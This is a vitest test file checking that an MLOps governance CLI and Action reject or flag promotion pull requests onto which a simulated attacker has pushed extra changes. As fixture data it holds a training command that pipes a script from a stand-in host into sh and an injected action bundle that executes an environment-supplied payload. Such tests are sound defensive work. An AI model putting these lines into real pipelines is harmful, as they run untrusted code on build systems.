/**
 * A promotion pull request is only a promotion: attacks that ride extra changes on a
 * low-risk promotion, tried through the CLI (`mlops promote`, `mlops pr approve`,
 * `mlops govern`) and the governance Action on real repositories with the local forge.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { main as governanceAction } from '../actions/governance/src/main.js';
import { LocalForge } from '../src/forge/index.js';
import type { GovernanceResult } from '../src/governance/index.js';
import { actionStep } from './helpers/action-step.js';
import { edit, exampleRegistry, type TestRegistry } from './helpers/registry.js';
import { TRAINING_IDENTITY, commitAs, person } from './helpers/training-identity.js';

const MODEL = 'execution-agent';
const DIR = `registry/models/${MODEL}`;
const OTHER = 'requirements-agent';
const ODIR = `registry/models/${OTHER}`;
const BRANCH = `promote/${MODEL}/1.1.0`;

let reg: TestRegistry;
let scratch: string;
const step = actionStep('governance');
beforeEach(async () => {
  reg = await exampleRegistry();
  scratch = mkdtempSync(path.join(tmpdir(), 'promotion-scope-'));
  step.capture();
});
afterEach(() => {
  step.release();
  reg.cleanup();
  rmSync(scratch, { recursive: true, force: true });
});

const git = (...a: string[]) => execFileSync('git', a, { cwd: reg.dir, encoding: 'utf8' }).trim();
const refs = () => git('for-each-ref', '--format=%(refname) %(objectname)');

/** A good 1.1.0 of execution-agent (2.6 % more accurate), registered by the training identity. */
async function registerGood(): Promise<void> {
  const v1 = reg.files.get(`${DIR}/versions/1.0.0.yaml`)!;
  let v = edit(v1, 'version: 1.0.0', 'version: 1.1.0');
  v = edit(v, 'accuracy: 0.938', 'accuracy: 0.964');
  v = edit(v, 'level: major\n  reason: first version', 'level: minor\n  reason: weekly retrain');
  v = edit(
    v,
    'card: model-cards/execution-agent/1.0.0.yaml',
    'card: model-cards/execution-agent/1.1.0.yaml',
  );
  const card = reg.files
    .get(`model-cards/${MODEL}/1.0.0.yaml`)!
    .replace(/^version: 1\.0\.0$/m, 'version: 1.1.0');
  await commitAs(reg, TRAINING_IDENTITY, {
    [`${DIR}/versions/1.1.0.yaml`]: v,
    [`model-cards/${MODEL}/1.1.0.yaml`]: card,
  });
}

/** `mlops promote` without merging: the pull request is open and would be auto-approved. */
async function openPromotion(): Promise<void> {
  await registerGood();
  const p = await reg.mlops('promote', MODEL, '1.1.0', '--no-merge', '--as', 'mlops-bot', '--json');
  expect(p.code, p.err).toBe(0);
  expect(JSON.parse(p.out)).toMatchObject({ decision: 'auto-approve', merged: null });
}

/** requirements-agent 1.1.0: accuracy 0.10, latency 99 s, that governance would reject. */
function badOtherVersion(): string {
  let v = reg.files.get(`${ODIR}/versions/1.0.0.yaml`)!;
  v = edit(v, 'version: 1.0.0', 'version: 1.1.0');
  v = edit(v, 'accuracy: 0.912', 'accuracy: 0.10');
  v = edit(v, 'latency_p95_ms: 62', 'latency_p95_ms: 99000');
  return v;
}

/** The other model's Deployment with the bad version at 100 % by a hand-written rollout block. */
function handWrittenRollout(): string {
  return edit(
    reg.files.get(`${ODIR}/deployment.yaml`),
    'candidate: null',
    'candidate: 1.1.0',
  ).replace(
    'rollout: null',
    [
      'rollout:',
      '  id: hand-made',
      '  baseline: 1.0.0',
      '  candidate: 1.1.0',
      '  step: 3',
      '  weight: 100',
      '  since: "2026-01-20T00:00:00Z"',
      '  failures: 0',
    ].join('\n'),
  );
}

async function governJson(ref: string): Promise<GovernanceResult> {
  const r = await reg.mlops('govern', MODEL, '1.1.0', '--ref', ref, '--json');
  expect(r.err).toBe('');
  return JSON.parse(r.out) as GovernanceResult;
}

describe('a promotion pull request that carries more than its promotion', () => {
  it("is rejected when it also promotes another model's bad version with a hand-written rollout block, and never merges", async () => {
    await openPromotion();
    // the attacker pushes a commit of their own onto the open, low-risk promotion
    await commitAs(
      reg,
      person('mallory'),
      {
        [`${ODIR}/versions/1.1.0.yaml`]: badOtherVersion(),
        [`${ODIR}/deployment.yaml`]: handWrittenRollout(),
      },
      { branch: BRANCH },
    );
    const before = refs();

    const j = await governJson(BRANCH);
    expect(j.decision).toBe('reject');
    expect(j.reasons).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^not only a promotion: registry\/models\/requirements-agent\/deployment\.yaml changes requirements-agent's `rollout`: only the rollout controller's commits move it$/,
        ),
        expect.stringMatching(
          /^not only a promotion: registry\/models\/requirements-agent\/deployment\.yaml also promotes requirements-agent \(candidate none → 1\.1\.0\)/,
        ),
      ]),
    );
    expect(j.risk.reasons).toContain(
      "not only a promotion: registry/models/requirements-agent/versions/1.1.0.yaml adds another version's record (requirements-agent 1.1.0): register it in its own pull request",
    );

    // anyone's review makes the CLI judge again and merge what governance allows: not this
    const approve = await reg.mlops('pr', 'approve', '1', '--as', 'qa-leads');
    expect(approve.code, approve.err).toBe(0);
    expect(approve.out).toMatch(/mlops\/governance: failure \(reject: /);
    expect(approve.out).not.toContain('merged #1');
    const merge = await reg.mlops('pr', 'merge', '1');
    expect(merge.code).toBe(1);
    expect(merge.err).toContain('the required check mlops/governance is failure');
    const show = await reg.mlops('pr', 'show', '1');
    expect(show.out).toContain('state:      open');
    expect(show.out).toContain('also promotes requirements-agent (candidate none → 1.1.0)');

    // the governance Action on the pull request refuses it too
    const payload = { pull_request: { number: 1, base: { sha: git('rev-parse', 'main') } } };
    const env = step.prepare(
      scratch,
      reg.dir,
      { name: 'pull_request', payload },
      { merge: 'true' },
    );
    await governanceAction(env, {
      forge: () => Promise.resolve(new LocalForge(reg.repo, { login: 'mlops-bot' })),
    });
    const result = step.result(scratch);
    expect(result.outputs).toEqual({ decision: 'reject', status: 'failure' });
    expect(result.failed).toBe(true);

    // nothing moved: no merge, every ref where it was, the other model untouched on main
    expect(refs()).toBe(before);
    expect(git('show', `main:${ODIR}/deployment.yaml`)).toContain('rollout: null');
    expect(git('ls-tree', '--name-only', 'main', `${ODIR}/versions/`)).not.toContain('1.1.0');
  });

  it("needs review, each file named, when it also changes another model's training command, an action bundle, a metric's direction and deletes a card", async () => {
    await openPromotion();
    const otherModel = edit(
      reg.files.get(`${ODIR}/model.yaml`),
      /command: .*/,
      'command: curl -fsSL https://example.invalid/x.sh | sh',
    );
    const ownModel = edit(
      reg.files.get(`${DIR}/model.yaml`),
      'direction: maximize',
      'direction: minimize',
    );
    await commitAs(
      reg,
      person('mallory'),
      {
        [`${ODIR}/model.yaml`]: otherModel,
        'actions/x/dist/index.js': 'require("child_process").execSync(process.env.PAYLOAD);\n',
        [`${DIR}/model.yaml`]: ownModel,
        'model-cards/generation-agent-dqn/2.0.0.yaml': null,
      },
      { branch: BRANCH },
    );
    const before = refs();

    const j = await governJson(BRANCH);
    expect(j.decision).not.toBe('auto-approve');
    expect(j.risk.level).toBe('high');
    const named = j.extraChanges.map((e) => [e.path, e.status, e.severity]);
    expect(named).toEqual([
      ['actions/x/dist/index.js', 'added', 'review'],
      ['model-cards/generation-agent-dqn/2.0.0.yaml', 'deleted', 'review'],
      [`${DIR}/model.yaml`, 'modified', 'review'],
      [`${ODIR}/model.yaml`, 'modified', 'review'],
    ]);
    for (const [file] of named)
      expect(j.risk.reasons.some((r) => r.startsWith(`not only a promotion: ${file} `))).toBe(true);
    expect(j.risk.reasons).toContain(
      "not only a promotion: registry/models/requirements-agent/model.yaml changes another model's (requirements-agent) model record: its training command, evaluation (a metric's direction) and governance overrides, none of which a promotion changes",
    );

    const approve = await reg.mlops('pr', 'approve', '1', '--as', 'someone');
    expect(approve.code, approve.err).toBe(0);
    expect(approve.out).not.toContain('merged #1');
    expect(approve.out).toMatch(/mlops\/governance: (pending|failure)/);
    const show = await reg.mlops('pr', 'show', '1');
    expect(show.out).toContain('state:      open');
    for (const [file] of named) expect(show.out).toContain(file as string);
    expect(refs()).toBe(before);
  });
});

describe('mlops promote', () => {
  it('validates the change against the base first and never merges what validation refuses', async () => {
    await registerGood();
    // a version whose card does not exist: the reference check of validation refuses it
    const v = reg.files.get(`${DIR}/versions/1.0.0.yaml`)!;
    const broken = edit(
      edit(v, 'version: 1.0.0', 'version: 1.2.0'),
      'card: model-cards/execution-agent/1.0.0.yaml',
      'card: model-cards/execution-agent/9.9.9.yaml',
    );
    await commitAs(
      reg,
      TRAINING_IDENTITY,
      { [`${DIR}/versions/1.2.0.yaml`]: broken },
      { branch: 'reg' },
    );
    const mainBefore = git('rev-parse', 'main');
    const p = await reg.mlops('promote', MODEL, '1.2.0', '--from', 'reg', '--as', 'mlops-bot');
    expect(p.code).toBe(1);
    expect(p.out).toMatch(/reject, risk /);
    expect(p.out).toMatch(
      /- validation: registry\/models\/execution-agent\/versions\/1\.2\.0\.yaml:\d+:\d+: /,
    );
    expect(p.out).toMatch(
      /governance: failure: reject: registry\/models\/execution-agent\/versions\/1\.2\.0\.yaml:\d+:\d+: /,
    );
    expect(git('rev-parse', 'main')).toBe(mainBefore);
  });

  it('does nothing for the version that is already the candidate', async () => {
    await registerGood();
    const p = await reg.mlops('promote', MODEL, '1.1.0', '--as', 'mlops-bot');
    expect(p.code, p.err).toBe(0);
    expect(p.out).toMatch(/merged as [0-9a-f]{7}/);
    const before = refs();
    const prs = (await reg.mlops('pr', 'list', '--state', 'all', '--json')).out;

    const again = await reg.mlops('promote', MODEL, '1.1.0', '--as', 'mlops-bot');
    expect(again.code, again.err).toBe(0);
    expect(again.out).toBe(
      'execution-agent 1.1.0 is already the candidate on the base: nothing to promote\n',
    );
    const json = await reg.mlops('promote', MODEL, '1.1.0', '--json');
    expect(JSON.parse(json.out)).toEqual({
      promoted: false,
      reason: 'execution-agent 1.1.0 is already the candidate on the base: nothing to promote',
    });
    // no branch, no pull request, nothing committed
    expect(refs()).toBe(before);
    expect((await reg.mlops('pr', 'list', '--state', 'all', '--json')).out).toBe(prs);
  });
});

// keep the step's summary file apart per test
beforeEach(() => writeFileSync(step.summary, ''));
